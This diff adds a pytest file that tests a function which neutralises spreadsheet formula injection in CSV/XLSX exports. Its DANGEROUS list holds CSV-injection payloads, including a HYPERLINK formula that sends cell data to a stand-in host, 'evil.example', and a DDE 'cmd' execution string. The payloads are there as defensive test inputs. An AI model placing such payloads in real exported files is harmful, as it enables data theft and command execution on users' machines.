@@ -1,0 +1,88 @@
+"""The one formula-neutralising function used for every CSV/XLSX cell."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+import pytest
+
+from coopwork.export.safe import is_formula_like, neutralise, neutralise_frame, to_csv
+
+# payloads from the OWASP "CSV injection" page and common spreadsheet attacks
+DANGEROUS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
+    "+33 6 12 34 56 78",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =cmd|' /C calc'!A0",
+    "＝1+1",
+]
+HARMLESS = ["SCOP", "Tiers-lieu (2024)", "1+1", "a=b", "", "'déjà", "café @ midi"]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_dangerous_texts_get_an_apostrophe(text):
+    assert is_formula_like(text)
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_texts_are_unchanged(text):
+    assert not is_formula_like(text)
+    assert neutralise(text) == text
+
+
+@pytest.mark.parametrize("value", [-3, -2.5, 0, None, pd.NA, True, pd.Timestamp("2025-01-01")])
+def test_non_text_values_are_unchanged(value):
+    assert neutralise(value) is value
+
+
+def test_frame_neutralises_text_cells_and_names_but_keeps_numbers():
+    table = pd.DataFrame(
+        {
+            "note": pd.Series(["=1+1", "ok", None], dtype="str"),
+            "obj": pd.Series(["@x", 3, None], dtype=object),
+            "cat": pd.Series(["-a", "b", "-a"], dtype="category"),
+            "n": pd.Series([-1, 2, 3], dtype="Int64"),
+            "+name": [1.5, -2.0, 0.0],
+        }
+    )
+    safe = neutralise_frame(table)
+    assert safe["note"].tolist()[:2] == ["'=1+1", "ok"]
+    assert pd.isna(safe["note"].iloc[2])
+    assert safe["obj"].tolist()[:2] == ["'@x", 3]
+    assert safe["cat"].tolist() == ["'-a", "b", "'-a"]
+    assert safe["n"].tolist() == [-1, 2, 3] and str(safe["n"].dtype) == "Int64"
+    assert list(safe.columns) == ["note", "obj", "cat", "n", "'+name"]
+    # the input is not modified
+    assert table["note"].iloc[0] == "=1+1" and "+name" in table.columns
+
+
+def test_csv_written_from_a_neutralised_frame_has_no_cell_starting_with_a_trigger():
+    table = pd.DataFrame({"text": DANGEROUS + HARMLESS})
+    text = to_csv(table)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    for (cell,) in rows[1:]:
+        assert not cell or cell[0] not in "=+-@\t\r\n＝"
+
+
+def test_to_csv_quotes_carriage_returns_so_no_row_starts_with_a_formula(tmp_path):
+    table = pd.DataFrame(
+        {"text": [*DANGEROUS, *HARMLESS, "ok\r=2+2", "x\n@y"], "n": range(len(DANGEROUS) + 9)}
+    )
+    path = tmp_path / "t.csv"
+    text = to_csv(table, path)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == len(table) + 1
+    assert [r[0] for r in rows[1:]] == [neutralise(v) for v in table["text"]]
+    for row in rows[1:]:
+        assert not row[0] or row[0][0] not in "=+-@\t\r\n＝"
+    assert text.count("\r\n") == len(table) + 1
